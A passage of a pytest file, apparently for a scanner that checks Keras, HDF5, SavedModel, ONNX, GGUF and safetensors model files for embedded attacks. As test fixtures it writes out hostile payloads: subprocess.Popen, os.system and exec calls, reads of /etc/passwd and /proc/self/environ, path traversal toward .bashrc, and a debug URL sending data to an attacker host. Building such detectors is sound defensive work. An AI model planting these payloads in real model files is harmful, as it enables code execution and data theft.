"""Keras, SavedModel, ONNX, GGUF and safetensors: benign files made by the real libraries give no finding;
malicious and malformed ones give the right finding; arbitrary bytes give findings or ``ScanError``, never
anything else. Nothing is ever loaded by a framework.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import signal
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.core import Finding, Severity
from bastion.scanners.detect import detect_bytes
from bastion.scanners.interface import ScanError
from bastion.scanners.models import ModelContext, _isolate
from bastion.scanners.models.gguf import _GGML_TYPES, scan_gguf
from bastion.scanners.models.keras import scan_hdf5, scan_keras_v3
from bastion.scanners.models.onnx import scan_onnx
from bastion.scanners.models.safetensors import DTYPE_BITS, scan_safetensors
from bastion.scanners.models.savedmodel import scan_savedmodel
from tests.models import format_samples as fs

Handler = Callable[[bytes, ModelContext], list[Finding]]
HANDLERS: dict[str, Handler] = {
    "keras": scan_keras_v3,
    "hdf5": scan_hdf5,
    "savedmodel": scan_savedmodel,
    "onnx": scan_onnx,
    "gguf": scan_gguf,
    "safetensors": scan_safetensors,
}


def outcome(handler: Handler, data: bytes) -> tuple[list[Finding], ScanError | None]:
    """The findings of a scan, whether it completed or stopped with ``ScanError``."""
    try:
        return handler(data, ModelContext("model")), None
    except ScanError as exc:
        return list(exc.findings), exc


def clean(handler: Handler, data: bytes) -> None:
    findings, error = outcome(handler, data)
    assert error is None, error
    assert findings == [], [f"{f.rule_id} {f.severity}: {f.message}" for f in findings]


def find(findings: list[Finding], rule: str, severity: str | None = None, text: str = "") -> Finding:
    """The finding with this rule (and severity), whose message or evidence contains ``text``."""
    for finding in findings:
        matches = finding.rule_id == rule and (severity is None or finding.severity == severity)
        if matches and (text in finding.message or text in (finding.evidence or "")):
            return finding
    shown = "\n".join(f"  {f.rule_id} {f.severity}: {f.message}" for f in findings)
    raise AssertionError(f"no {rule} {severity or ''} finding mentioning {text!r} in:\n{shown}")


@pytest.fixture(scope="module")
def marker(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The file any payload here would create if something ran it."""
    return tmp_path_factory.mktemp("marker") / "PWNED"


# ============================================================================================ Keras


@pytest.fixture(scope="module")
def keras_made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Files saved by Keras 3 itself (torch backend): benign models, and the same with a Lambda layer."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    keras = pytest.importorskip("keras")
    root = tmp_path_factory.mktemp("keras")
    inputs = keras.Input((8, 8, 1))
    x = keras.layers.Conv2D(4, 3, activation="relu")(inputs)
    x = keras.layers.BatchNormalization()(x)
    x = keras.layers.MaxPooling2D()(x)
    x = keras.layers.Flatten()(x)
    x = keras.layers.Dropout(0.1)(x)
    outputs = keras.layers.Dense(3, activation="softmax", kernel_regularizer=keras.regularizers.L2(0.01))(x)
    functional = keras.Model(inputs, outputs)
    functional.compile(optimizer="adam", loss=keras.losses.sparse_categorical_crossentropy, metrics=["accuracy"])
    sequential = keras.Sequential(
        [keras.Input((5,), dtype="int32"), keras.layers.Embedding(10, 4), keras.layers.LSTM(3), keras.layers.Dense(1)]
    )
    sequential.compile(optimizer=keras.optimizers.SGD(0.1), loss="mse", metrics=[keras.metrics.MeanAbsoluteError()])
    with_lambda = keras.Sequential(
        [keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2, name="doubler"), keras.layers.Dense(1)]
    )
    files = {}
    for name, model in (("functional", functional), ("sequential", sequential), ("lambda", with_lambda)):
        for suffix in ("keras", "h5"):
            path = root / f"{name}.{suffix}"
            model.save(path)
            files[f"{name}.{suffix}"] = path.read_bytes()
    return files


@pytest.mark.parametrize("name", ["functional.keras", "sequential.keras"])
def test_keras3_files_saved_by_keras_are_clean(keras_made: dict[str, bytes], name: str) -> None:
    assert detect_bytes(keras_made[name], name).format == "keras-v3"
    clean(scan_keras_v3, keras_made[name])


@pytest.mark.parametrize("name", ["functional.h5", "sequential.h5"])
def test_hdf5_files_saved_by_keras_are_clean(keras_made: dict[str, bytes], name: str) -> None:
    assert detect_bytes(keras_made[name], name).format == "hdf5"
    clean(scan_hdf5, keras_made[name])


@pytest.mark.parametrize(("name", "handler"), [("lambda.keras", scan_keras_v3), ("lambda.h5", scan_hdf5)])
def test_lambda_layer_saved_by_keras(keras_made: dict[str, bytes], name: str, handler: Handler) -> None:
    findings, error = outcome(handler, keras_made[name])
    assert error is None
    finding = find(findings, "model.keras.lambda-layer", "critical", "'doubler'")
    assert "CVE-2024-3660" in finding.message


def test_hand_built_keras_files_are_clean() -> None:
    clean(scan_keras_v3, fs.keras_archive(fs.keras_sequential(fs.keras_dense(), fs.keras_dense("dense_1", 1))))
    clean(
        scan_hdf5, fs.keras_h5(fs.keras2_sequential(), {"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {}}})
    )
    clean(scan_hdf5, fs.weights_h5())


def _keras_cases(marker: Path) -> dict[str, tuple[dict[str, Any], str, str, str]]:
    """config.json payloads: (config, rule, severity, text the finding must mention)."""
    dense = fs.keras_dense()
    return {
        "lambda": (fs.keras_sequential(dense, fs.keras3_lambda(marker)), "model.keras.lambda-layer", "critical", "'evil_lambda'"),
        "cve_2025_1550_popen": (
            fs.keras_functional(fs.call_layer("subprocess", "Popen", [["touch", str(marker)]])),
            "model.keras.unsafe-module",
            "critical",
            "subprocess.Popen",
        ),
        "builtins_exec": (
            fs.keras_functional(fs.call_layer("builtins", "exec", [f"open('{marker}', 'w')"])),
            "model.keras.unsafe-module",
            "critical",
            "builtins.exec",
        ),
        "os_system_class": (
            fs.keras_functional(fs.call_layer("os", "system", [f"touch {marker}"], function=False)),
            "model.keras.unsafe-module",
            "critical",
            "os.system",
        ),
        "get_file": (
            fs.keras_functional(fs.call_layer("keras.utils", "get_file", ["x.pth", "https://example.invalid/x.pth"])),
            "model.keras.unsafe-gadget",
            "critical",
            "keras.utils.get_file",
        ),
        "file_utils_internal": (
            fs.keras_functional(fs.call_layer("keras.src.utils.file_utils", "get_file", ["x"])),
            "model.keras.unsafe-gadget",
            "critical",
            "keras.src.utils.file_utils.get_file",
        ),
        "enable_unsafe_then_lambda": (
            fs.keras_functional(
                fs.call_layer("keras.config", "enable_unsafe_deserialization", [], layer="unlock"), fs.keras3_lambda(marker)
            ),
            "model.keras.unsafe-gadget",
            "critical",
            "enable_unsafe_deserialization",
        ),
        "nested_load_model": (
            fs.keras_functional(fs.call_layer("keras.models", "load_model", ["/tmp/other.keras", None, True, False])),
            "model.keras.unsafe-gadget",
            "critical",
            "keras.models.load_model",
        ),
        "tensorflow_write_file": (
            fs.keras_functional(fs.call_layer("tensorflow.io", "write_file", ["/tmp/x", "data"])),
            "model.keras.unsafe-gadget",
            "critical",
            "write_file",
        ),
        "tfsm_layer": (
            fs.keras_sequential(
                {
                    "module": "keras.layers",
                    "class_name": "TFSMLayer",
                    "config": {"name": "tfsm", "filepath": "/tmp/evil_savedmodel"},
                }
            ),
            "model.keras.unsafe-gadget",
            "high",
            "TFSMLayer",
        ),
        "lookup_vocabulary_file": (
            fs.keras_sequential(
                {
                    "module": "keras.layers",
                    "class_name": "StringLookup",
                    "config": {"name": "lookup", "vocabulary": "/etc/passwd"},
                }
            ),
            "model.keras.external-file",
            "high",
            "/etc/passwd",
        ),
        "layer_name_traversal": (
            fs.keras_sequential(fs.keras_dense("../../../../home/user/.bashrc")),
            "model.keras.path-traversal",
            "high",
            ".bashrc",
        ),
        "custom_function": (
            fs.keras_functional(fs.call_layer("mypackage.ops", "transform", [1])),
            "model.keras.unsafe-module",
            "high",
            "mypackage.ops.transform",
        ),
        "tf_op_write_file": (
            fs.keras_sequential(
                {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"}}
            ),
            "model.keras.unsafe-gadget",
            "critical",
            "tf.io.write_file",
        ),
        "custom_class": (
            fs.keras_sequential({"module": "mypackage.layers", "class_name": "Fancy", "config": {"name": "fancy"}}),
            "model.keras.custom-object",
            "medium",
            "mypackage.layers.Fancy",
        ),
    }


KERAS_CASES = sorted(_keras_cases(Path("/m")))


@pytest.mark.parametrize("case", KERAS_CASES)
def test_keras3_config_payloads(marker: Path, case: str) -> None:
    config, rule, severity, text = _keras_cases(marker)[case]
    findings, error = outcome(scan_keras_v3, fs.keras_archive(config))
    assert error is None
    finding = find(findings, rule, severity, text)
    assert finding.location.member == "config.json"


@pytest.mark.parametrize("case", ["lambda", "cve_2025_1550_popen", "builtins_exec", "get_file"])
def test_hdf5_model_config_payloads(marker: Path, case: str) -> None:
    """HDF5 loading ignores safe_mode (CVE-2025-9905): the same payloads in ``model_config``."""
    config, rule, severity, text = _keras_cases(marker)[case]
    findings, error = outcome(scan_hdf5, fs.keras_h5(config))
    assert error is None
    assert find(findings, rule, severity, text).location.member == "/@model_config"


def test_keras2_lambda_in_hdf5(marker: Path) -> None:
    findings, _ = outcome(scan_hdf5, fs.keras_h5(fs.keras2_sequential(fs.keras2_lambda(marker, "lambda_1"))))
    finding = find(findings, "model.keras.lambda-layer", "critical", "'lambda_1'")
    assert "system" in finding.message  # names found in the bytecode, which is never unmarshalled


def test_keras2_lambda_named_function_and_training_config() -> None:
    named = fs.keras2_lambda(Path("/m"))
    named["config"].update(function="system", function_type="function", module="os")
    training = {"loss": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}}
    findings, _ = outcome(scan_hdf5, fs.keras_h5(fs.keras2_sequential(named), training))
    find(findings, "model.keras.lambda-layer", "critical", "os.system")
    assert find(findings, "model.keras.unsafe-module", "critical", "builtins.eval").location.member == "/@training_config"


def test_keras_archive_members_are_scanned_by_content(tmp_path: Path) -> None:
    """A payload hidden among the assets is found by its content, not its name."""
    evil = fs.gguf_file(tmp_path / "x.gguf", fs.SSTI_TEMPLATES["cve_2024_34359"][0])
    data = fs.keras_archive(fs.keras_sequential(fs.keras_dense()), {"assets/vocab.txt": evil, "../outside.txt": b"x"})
    findings, error = outcome(scan_keras_v3, data)
    assert error is None
    assert find(findings, "model.gguf.template-injection", "critical").location.member == "assets/vocab.txt"
    find(findings, "model.keras.path-traversal", "high", "../outside.txt")


def test_keras_duplicate_config_members_are_all_checked(marker: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("config.json", json.dumps(fs.keras_sequential(fs.keras3_lambda(marker))))
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", json.dumps(fs.keras_sequential(fs.keras_dense())))
    findings, _ = outcome(scan_keras_v3, buffer.getvalue())
    find(findings, "model.keras.duplicate-member", "medium", "config.json")
    find(findings, "model.keras.lambda-layer", "critical")


def test_keras_deflated_weights_and_bad_config() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", b'{"module": "keras", "class_name": ')
        archive.writestr("model.weights.h5", fs.weights_h5())
    findings, error = outcome(scan_keras_v3, buffer.getvalue())
    assert error is not None and error.partial
    find(findings, "model.keras.malformed", "medium", "config.json")


def test_keras_zip_bomb_member_stops_the_scan() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", json.dumps(fs.keras_sequential()))
        archive.writestr("metadata.json", "{}")
        archive.writestr("assets/bomb.bin", b"\0" * (64 * 1024 * 1024))
    findings, error = outcome(scan_keras_v3, buffer.getvalue())
    assert error is not None
    find(findings, "model.archive.limit-exceeded", "high")


def test_not_a_zip_is_a_scan_error() -> None:
    findings, error = outcome(scan_keras_v3, b"PK\x03\x04 this is not a zip")
    assert error is not None
    find(findings, "model.keras.malformed")


def _h5(build: Callable[[h5py.File], None]) -> bytes:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        build(h5)
    return buffer.getvalue()


def test_hdf5_external_references() -> None:
    def build(h5: h5py.File) -> None:
        h5["weights"] = np.zeros(4, dtype=np.float32)
        h5["absolute"] = h5py.ExternalLink("/etc/shadow.h5", "/data")
        h5["relative"] = h5py.ExternalLink("sibling.h5", "/data")
        h5.create_dataset("raw", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)])

    findings, error = outcome(scan_hdf5, _h5(build))
    assert error is None
    find(findings, "model.hdf5.external-reference", "high", "/etc/shadow.h5")
    find(findings, "model.hdf5.external-reference", "medium", "sibling.h5")
    assert find(findings, "model.hdf5.external-reference", "high", "/etc/passwd").location.member == "/raw"


def test_hdf5_blob_holding_another_model_is_scanned(tmp_path: Path) -> None:
    evil = fs.gguf_file(tmp_path / "x.gguf", fs.SSTI_TEMPLATES["popen_via_globals"][0])
    data = fs.keras_h5(fs.keras2_sequential(), custom_objects=np.void(evil))
    findings, error = outcome(scan_hdf5, data)
    assert error is None
    find(findings, "model.hdf5.embedded-model", "medium", "/@custom_objects")
    assert find(findings, "model.gguf.template-injection", "critical").location.member == "/@custom_objects"


def test_hdf5_child_spends_the_shared_budget() -> None:
    """What the isolated HDF5 child spends (pickle opcodes here) is charged to the file's one budget."""
    import pickle

    from bastion.scanners.models import Budget, LimitExceeded, Limits

    blob = np.void(pickle.dumps(list(range(300)), protocol=4))
    data = fs.keras_h5(fs.keras2_sequential(), custom_objects=blob)
    budget = Budget(Limits(max_pickle_opcodes=1000))
    scan_hdf5(data, ModelContext("first.h5", budget=budget))
    spent = budget.opcodes
    assert spent > 300
    with pytest.raises(LimitExceeded) as raised:
        for name in ("second.h5", "third.h5", "fourth.h5"):
            scan_hdf5(data, ModelContext(name, budget=budget))
    assert find(list(raised.value.findings), "model.archive.limit-exceeded").location.path != "first.h5"


def test_hdf5_damaged_is_a_scan_error() -> None:
    data = bytearray(fs.keras_h5(fs.keras2_sequential()))
    data[200:400] = b"\xff" * 200
    findings, error = outcome(scan_hdf5, bytes(data[:600]))
    assert error is not None
    assert findings and findings[-1].rule_id in ("model.hdf5.malformed", "model.hdf5.parser-crash")


def test_isolated_parser_crash_and_timeout_are_findings(monkeypatch: pytest.MonkeyPatch) -> None:
    ctx = ModelContext("model")

    def crash() -> list[Finding]:
        os.kill(os.getpid(), signal.SIGSEGV)
        return []

    def hang() -> list[Finding]:
        time.sleep(30)
        return []

    with pytest.raises(ScanError) as crashed:
        _isolate.run_isolated(crash, ctx, "the parser", "model.test")
    assert crashed.value.findings[0].rule_id == "model.test.parser-crash"
    monkeypatch.setattr(_isolate, "TIMEOUT", 0.5)
    with pytest.raises(ScanError) as stuck:
        _isolate.run_isolated(hang, ctx, "the parser", "model.test")
    assert stuck.value.findings[0].rule_id == "model.test.parser-timeout"
    finding = ctx.finding("model.test.x", Severity.HIGH, "found", offset=3, evidence="e")
    assert _isolate.run_isolated(lambda: [finding], ctx, "the parser", "model.test") == [finding]


# ======================================================================================== SavedModel


def test_savedmodel_with_the_standard_saver_is_clean() -> None:
    data = fs.benign_saved_model()
    assert detect_bytes(data, "saved_model.pb").format == "tf-savedmodel"
    clean(scan_savedmodel, data)


@pytest.mark.parametrize(
    ("nodes", "functions", "rule", "severity", "text"),
    [
        (
            [],
            [fs.tf_function("__inference_call_9", fs.tf_node("py", "PyFunc"))],
            "model.savedmodel.python-op",
            "critical",
            "PyFunc",
        ),
        ([fs.tf_node("e", "EagerPyFunc")], [], "model.savedmodel.python-op", "critical", "main graph"),
        ([fs.tf_node("r", "ReadFile")], [], "model.savedmodel.unsafe-op", "high", "ReadFile"),
        (
            [],
            [fs.tf_function("__inference_f_1", fs.tf_node("w", "WriteFile"))],
            "model.savedmodel.unsafe-op",
            "high",
            "WriteFile",
        ),
        ([fs.tf_node("m", "MatchingFiles")], [], "model.savedmodel.unsafe-op", "high", "MatchingFiles"),
        (
            [fs.tf_node("p", "PrintV2", fs.tf_attr("output_stream", "file:///home/user/.bashrc"))],
            [],
            "model.savedmodel.unsafe-op",
            "high",
            "file:///home/user/.bashrc",
        ),
        (
            [fs.tf_node("d", "DebugIdentityV2", fs.tf_attr("debug_urls", strings=["grpc://attacker.invalid:6064"]))],
            [],
            "model.savedmodel.unsafe-op",
            "high",
            "grpc://",
        ),
        (
            [],
            [fs.tf_function("__inference_serve_5", fs.tf_node("s", "SaveV2"))],
            "model.savedmodel.unsafe-op",
            "medium",
            "SaveV2",
        ),
    ],
)
def test_savedmodel_unsafe_ops(nodes: list[bytes], functions: list[bytes], rule: str, severity: str, text: str) -> None:
    findings, error = outcome(scan_savedmodel, fs.saved_model([fs.tf_node("x", "Placeholder"), *nodes], functions))
    assert error is None
    find(findings, rule, severity, text)


def test_savedmodel_counts_nodes_per_op() -> None:
    function = fs.tf_function("__inference_f_1", *(fs.tf_node(f"read_{i}", "ReadFile") for i in range(7)))
    findings, _ = outcome(scan_savedmodel, fs.saved_model([], [function]))
    assert len(findings) == 1
    assert "7 nodes" in findings[0].message and "read_0" in (findings[0].evidence or "")


def test_savedmodel_keras_lambda_metadata(marker: Path) -> None:
    metadata = json.dumps({"class_name": "Lambda", **fs.keras2_lambda(marker, "lam")})
    findings, _ = outcome(scan_savedmodel, fs.saved_model([fs.tf_node("x", "Placeholder")], [], [metadata]))
    find(findings, "model.keras.lambda-layer", "critical", "'lam'")


def test_savedmodel_truncated_is_a_scan_error() -> None:
    data = fs.saved_model([fs.tf_node("r", "ReadFile")], [fs.tf_function("__inference_f", fs.tf_node("p", "PyFunc"))])
    findings, error = outcome(scan_savedmodel, data[:-3])
    assert error is not None
    find(findings, "model.savedmodel.malformed", "medium")


# ============================================================================================ ONNX


def _onnx_model(*, location: str | None = None, domain: str = "", in_branch: str | None = None, functions: bool = True) -> bytes:
    """A small model made with ``onnx.helper``: initializers, an If with subgraphs, a local function."""
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, external_data_helper, helper, numpy_helper

    def tensor(name: str, location: str | None) -> Any:
        value = numpy_helper.from_array(np.array([1.0, 2.0], dtype=np.float32), name)
        if location is not None:  # as onnx.save(..., save_as_external_data=True) leaves it
            external_data_helper.set_external_data(value, location=location, offset=0, length=8)
            value.data_location = TensorProto.EXTERNAL
            value.ClearField("raw_data")
        return value

    weight = tensor("w", location)
    branch_value = tensor("c", in_branch)
    then_graph = helper.make_graph(
        [helper.make_node("Constant", [], ["t"], value=branch_value)], "then", [], [helper.make_tensor_value_info("t", 1, [2])]
    )
    else_graph = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["e"])], "else", [], [helper.make_tensor_value_info("e", 1, [2])]
    )
    nodes = [
        helper.make_node("Add", ["x", "w"], ["a"]),
        helper.make_node("Relu", ["a"], ["r"]),
        helper.make_node("FusedMatMul", ["r", "r"], ["m"], domain="com.microsoft"),
        helper.make_node("ReduceSum", ["m"], ["s"], keepdims=0),
        helper.make_node("Greater", ["s", "zero"], ["cond"]),
        helper.make_node("If", ["cond"], ["y0"], then_branch=then_graph, else_branch=else_graph),
        helper.make_node("Scale2", ["y0"], ["y"], domain="local.fn"),
    ]
    if domain:
        nodes.append(helper.make_node("Exfiltrate", ["y"], ["z"], domain=domain))
    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("x", 1, [2])],
        [helper.make_tensor_value_info("z" if domain else "y", 1, [2])],
        [weight, helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0])],
    )
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("com.microsoft", 1), helper.make_opsetid("local.fn", 1)]
    local = helper.make_function(
        "local.fn", "Scale2", ["i"], ["o"], [helper.make_node("Add", ["i", "i"], ["o"])], [helper.make_opsetid("", 17)]
    )
    model = helper.make_model(graph, opset_imports=opsets, functions=[local] if functions else [])
    data: bytes = model.SerializeToString()
    onnx.load_model_from_string(data)  # a real model, by the library's own parser (external data not read)
    return data


def test_onnx_benign_model_is_clean() -> None:
    data = _onnx_model(location="weights.bin")
    assert detect_bytes(data, "model.onnx").format == "onnx"
    clean(scan_onnx, data)


@pytest.mark.parametrize(
    ("kwargs", "rule", "severity", "text"),
    [
        ({"location": "../../etc/passwd"}, "model.onnx.external-data-escape", "high", "../../etc/passwd"),
        ({"location": "/proc/self/environ"}, "model.onnx.external-data-escape", "high", "/proc/self/environ"),
        ({"location": "C:\\Windows\\win.ini"}, "model.onnx.external-data-escape", "high", "win.ini"),
        ({"in_branch": "sub/../../../secret.key"}, "model.onnx.external-data-escape", "high", "secret.key"),
        ({"domain": "evil.custom_ops"}, "model.onnx.custom-domain", "high", "Exfiltrate"),
        ({"domain": "ai.onnx.contrib"}, "model.onnx.custom-domain", "medium", "ai.onnx.contrib"),
        ({"functions": False}, "model.onnx.custom-domain", "high", "Scale2"),
    ],
)
def test_onnx_findings(kwargs: dict[str, Any], rule: str, severity: str, text: str) -> None:
    findings, error = outcome(scan_onnx, _onnx_model(**kwargs))
    assert error is None
    assert find(findings, rule, severity, text).location.offset is not None


def test_onnx_truncated_is_a_scan_error() -> None:
    data = _onnx_model(domain="evil.ops")
    findings, error = outcome(scan_onnx, data[: len(data) // 2])
    assert error is not None
    find(findings, "model.onnx.malformed", "medium")


# ============================================================================================ GGUF


@pytest.mark.parametrize("name", sorted(fs.BENIGN_TEMPLATES))
def test_gguf_with_real_chat_templates_is_clean(tmp_path: Path, name: str) -> None:
    data = fs.gguf_file(tmp_path / "m.gguf", fs.BENIGN_TEMPLATES[name])
    assert detect_bytes(data, "m.gguf").format == "gguf"
    clean(scan_gguf, data)


def test_gguf_with_named_templates_and_no_template_is_clean(tmp_path: Path) -> None:
    clean(scan_gguf, fs.gguf_file(tmp_path / "a.gguf", {"default": fs.CHATML, "tool_use": fs.HERMES_TOOLS}))
    clean(scan_gguf, fs.gguf_file(tmp_path / "b.gguf", None, tensors=5))


@pytest.mark.parametrize("case", sorted(fs.SSTI_TEMPLATES))
def test_gguf_template_injection(tmp_path: Path, case: str) -> None:
    template, severity = fs.SSTI_TEMPLATES[case]
    findings, error = outcome(scan_gguf, fs.gguf_file(tmp_path / "m.gguf", template))
    assert error is None
    finding = find(findings, "model.gguf.template-injection", severity, "tokenizer.chat_template")
    assert finding.location.offset is not None and finding.evidence


def test_gguf_injection_in_a_named_template(tmp_path: Path) -> None:
    templates = {"default": fs.CHATML, "rag": fs.SSTI_TEMPLATES["attr_concat"][0]}
    findings, _ = outcome(scan_gguf, fs.gguf_file(tmp_path / "m.gguf", templates))
    find(findings, "model.gguf.template-injection", "critical", "'tokenizer.chat_template.rag'")


@pytest.mark.parametrize(
    ("template", "rule", "text"),
    [
        ("{{ messages|shuffle }}", "model.gguf.template-unknown-call", "shuffle"),
        ("{{ fetch_url('http://example.invalid') }}", "model.gguf.template-unknown-call", "fetch_url"),
        ("{{ messages.read() }}", "model.gguf.template-unknown-call", ".read()"),
        ("{% for m in messages %}{{ m.content }}", "model.gguf.template-unparsed", "does not parse"),
        ("{% do messages.append(1) %}", "model.gguf.template-unparsed", "do"),
    ],
)
def test_gguf_template_outside_the_vocabulary(tmp_path: Path, template: str, rule: str, text: str) -> None:
    findings, error = outcome(scan_gguf, fs.gguf_file(tmp_path / "m.gguf", template))
    assert error is None
    find(findings, rule, "medium", text)


def test_gguf_type_table_matches_llama_cpp() -> None:
    gguf = pytest.importorskip("gguf")
    sizes = {int(t): (block, size) for t, (block, size) in gguf.constants.GGML_QUANT_SIZES.items()}
    assert {t: sizes[t] for t in _GGML_TYPES if t in sizes} == {t: _GGML_TYPES[t] for t in _GGML_TYPES if t in sizes}
    assert set(sizes) <= set(_GGML_TYPES)


_U32, _STRING, _ARRAY = 4, 8, 9
_TEMPLATE_KV = ("tokenizer.chat_template", _STRING, fs.gguf_string(fs.SSTI_TEMPLATES["cve_2024_34359"][0]))


@pytest.mark.parametrize(
    ("data", "text", "scan_error"),
    [
        (fs.gguf_raw([], counts=(0, 1 << 40)), "cannot fit", True),
        (fs.gguf_raw([], counts=(1 << 60, 0)), "cannot fit", True),
        (fs.gguf_raw([("general.name", _STRING, struct.pack("<Q", 1 << 62) + b"abc")]), "claims", True),
        (fs.gguf_raw([("a", _ARRAY, struct.pack("<IQ", _U32, 1 << 61))]), "claims", True),
        (fs.gguf_raw([("a", _ARRAY, struct.pack("<IQ", _STRING, 1 << 40))]), "claims", True),
        (fs.gguf_raw([("a", 99, b"")]), "unknown value type", True),
        (fs.gguf_raw([], [fs.gguf_tensor("t", [1, 1, 1, 1, 1], 0, 0)]), "dimensions", True),
        (fs.gguf_raw([_TEMPLATE_KV], [fs.gguf_tensor("t", [4], 0, 0)])[:-5], "file ends", True),
        (fs.gguf_raw([], [fs.gguf_tensor("t", [1 << 40, 1 << 40], 0, 0)]), "overflows", False),
        (fs.gguf_raw([], [fs.gguf_tensor("t", [32], 0, 1 << 40)]), "past the end", False),
        (fs.gguf_raw([], [fs.gguf_tensor("t", [33], 2, 0)]), "whole blocks", False),
        (b"GGUF" + struct.pack("<I", 7) + b"\0" * 16, "unsupported GGUF version", True),
    ],
)
def test_gguf_malformed(data: bytes, text: str, scan_error: bool) -> None:
    findings, error = outcome(scan_gguf, data)
    assert (error is not None) == scan_error
    find(findings, "model.gguf.malformed", "high", text)


def test_gguf_truncated_still_reports_templates_read_before_the_break() -> None:
    data = fs.gguf_raw([_TEMPLATE_KV, ("general.name", _STRING, fs.gguf_string("x" * 100))])[:-50]
    findings, error = outcome(scan_gguf, data)
    assert error is not None and error.partial
    find(findings, "model.gguf.template-injection", "critical")
    find(findings, "model.gguf.malformed", "high", "more than the 50 left")


def test_gguf_layout_problems(tmp_path: Path) -> None:
    alignment = ("general.alignment", _U32, struct.pack("<I", 24))
    tensors = [fs.gguf_tensor("a", [32], 0, 0), fs.gguf_tensor("a", [32], 0, 64), fs.gguf_tensor("b", [32], 0, 96)]
    data = fs.gguf_raw([alignment], tensors)
    data += b"\0" * (-len(data) % 32 + 256)
    findings, error = outcome(scan_gguf, data)
    assert error is None
    find(findings, "model.gguf.malformed", "medium", "general.alignment")
    find(findings, "model.gguf.malformed", "medium", "appears twice")
    find(findings, "model.gguf.malformed", "medium", "not at 128")
    find(findings, "model.gguf.malformed", "high", "overlap")


def test_cli_reports_a_malicious_gguf(tmp_path: Path, scan_json: Callable[..., tuple[int, dict[str, Any]]]) -> None:
    path = tmp_path / "model.gguf"
    fs.gguf_file(path, fs.SSTI_TEMPLATES["cve_2024_34359"][0])
    status, document = scan_json(str(path))
    assert status == 1
    assert document["scanned"][0]["format"] == "gguf" and document["scanned"][0]["status"] == "complete"
    rules = {(f["rule_id"], f["severity"]) for f in document["findings"]}
    assert ("model.gguf.template-injection", "critical") in rules


def test_cli_passes_benign_files_of_every_format(tmp_path: Path, scan_json: Callable[..., tuple[int, dict[str, Any]]]) -> None:
    from safetensors.numpy import save_file

    fs.gguf_file(tmp_path / "model.gguf", fs.LLAMA3)
    (tmp_path / "model.keras").write_bytes(fs.keras_archive(fs.keras_sequential(fs.keras_dense())))
    (tmp_path / "model.h5").write_bytes(fs.keras_h5(fs.keras2_sequential()))
    (tmp_path / "saved_model.pb").write_bytes(fs.benign_saved_model())
    (tmp_path / "model.onnx").write_bytes(_onnx_model())
    save_file({"w": np.zeros((3, 3), dtype=np.float32)}, str(tmp_path / "model.safetensors"))
    status, document = scan_json(str(tmp_path))
    formats = {Path(s["path"]).name: s["format"] for s in document["scanned"]}
    assert formats == {
        "model.gguf": "gguf",
        "model.keras": "keras-v3",
        "model.h5": "hdf5",
        "saved_model.pb": "tf-savedmodel",
        "model.onnx": "onnx",
        "model.safetensors": "safetensors",
    }
    assert (status, document["findings"]) == (0, [])


# ====================================================================================== safetensors


def test_safetensors_written_by_the_library_are_clean(tmp_path: Path) -> None:
    from safetensors.numpy import save_file

    tensors: dict[str, np.ndarray[Any, Any]] = {
        "f32": np.ones((3, 4), dtype=np.float32),
        "f16": np.ones((5,), dtype=np.float16),
        "i64": np.arange(7, dtype=np.int64),
        "u8": np.zeros((2, 2, 2), dtype=np.uint8),
        "bool": np.array([True, False]),
        "scalar": np.array(3.0, dtype=np.float64),
        "empty": np.zeros((0, 4), dtype=np.float32),
    }
    save_file(tensors, str(tmp_path / "a.safetensors"), metadata={"format": "np", "note": "x"})
    clean(scan_safetensors, (tmp_path / "a.safetensors").read_bytes())
    torch = pytest.importorskip("torch")
    from safetensors.torch import save_file as save_torch

    save_torch(
        {"bf16": torch.ones(4, 4, dtype=torch.bfloat16), "f8": torch.zeros(8, dtype=torch.float8_e4m3fn)}, str(tmp_path / "b")
    )
    clean(scan_safetensors, (tmp_path / "b").read_bytes())


def _entry(dtype: str, shape: list[int], start: int, end: int) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


@pytest.mark.parametrize(
    ("data", "severity", "text"),
    [
        (fs.safetensors_raw({"a": _entry("F32", [2], 0, 8), "b": _entry("F32", [2], 4, 12)}, b"\0" * 12), "high", "overlaps"),
        (fs.safetensors_raw({"a": _entry("F32", [2], 0, 8)}, b"\0" * 4), "high", "past the 4-byte data area"),
        (fs.safetensors_raw({"a": _entry("F32", [2], 0, 8)}, b"\0" * 8, length=1000), "high", "runs past the end"),
        (fs.safetensors_raw({"a": _entry("F32", [2], 0, 8)}, b"\0" * 8, length=1 << 40), "high", "exceeds"),
        (fs.safetensors_raw(b'{"a": {"dtype": "F32", "shape": [2], ', b"\0" * 8), "high", "not valid JSON"),
        (fs.safetensors_raw({"a": _entry("F32", [3], 0, 8)}, b"\0" * 8), "high", "need 12"),
        (fs.safetensors_raw({"a": _entry("F32", [2], 4, 12)}, b"\0" * 12), "high", "gap"),
        (fs.safetensors_raw({"a": _entry("F32", [2], 0, 8)}, b"\0" * 10), "high", "not covered"),
